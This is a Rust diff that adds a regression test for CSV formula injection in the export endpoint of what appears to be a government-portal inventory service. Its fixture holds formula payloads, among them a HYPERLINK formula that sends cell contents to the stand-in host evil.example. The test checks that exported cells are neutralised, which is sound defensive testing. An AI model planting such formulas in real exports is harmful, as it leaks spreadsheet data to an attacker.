@@ -235,6 +235,35 @@ battery! {
         assert_eq!(campaign["deadline"], "2026-12-31");
         c.stop().await;
     };
+
+    // Regression: export.csv passed a name or an agency that starts with `=`,
+    // `+`, `-`, `@` or a tab as a live formula (OWASP "CSV injection"); a
+    // spreadsheet now shows the text, marked as text by a leading `'`.
+    csv_cell_starting_with_equals_is_not_a_formula => |db: Db| async move {
+        let c = Running::start(&db, |_| {}).await;
+        let upload = concat!(
+            "schema: v6audit/inventory/v1\nportals:\n",
+            "  - id: formula\n    url: https://formula.gov.vn/\n    category: citizen\n",
+            "    name: '=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'\n",
+            "    agency: '@SUM(A1:A9)'\n",
+            "  - id: minus\n    url: https://minus.gov.vn/\n    category: business\n",
+            "    name: '-1+1'\n    agency: \"\\t=1+1\"\n",
+        );
+        let put = c.client.put(format!("{}/api/v1/inventories/ministry", c.base)).bearer_auth("admin-secret").body(upload).send().await.unwrap();
+        let status = put.status();
+        let answer = put.text().await.unwrap();
+        assert_eq!(status, 200, "{answer}");
+        let (status, csv) = c.get("/api/v1/export.csv").await;
+        assert_eq!(status, 200);
+        let csv = csv.as_str().unwrap();
+        let row = |id: &str| csv.split("\r\n").find(|l| l.starts_with(&format!("{id},"))).unwrap_or_else(|| panic!("no row {id}:\n{csv}")).to_owned();
+        assert!(
+            row("formula").starts_with("formula,https://formula.gov.vn/,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'@SUM(A1:A9),citizen,"),
+            "{csv}"
+        );
+        assert!(row("minus").starts_with("minus,https://minus.gov.vn/,'-1+1,\"'\t=1+1\",business,"), "{csv}");
+        c.stop().await;
+    };
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
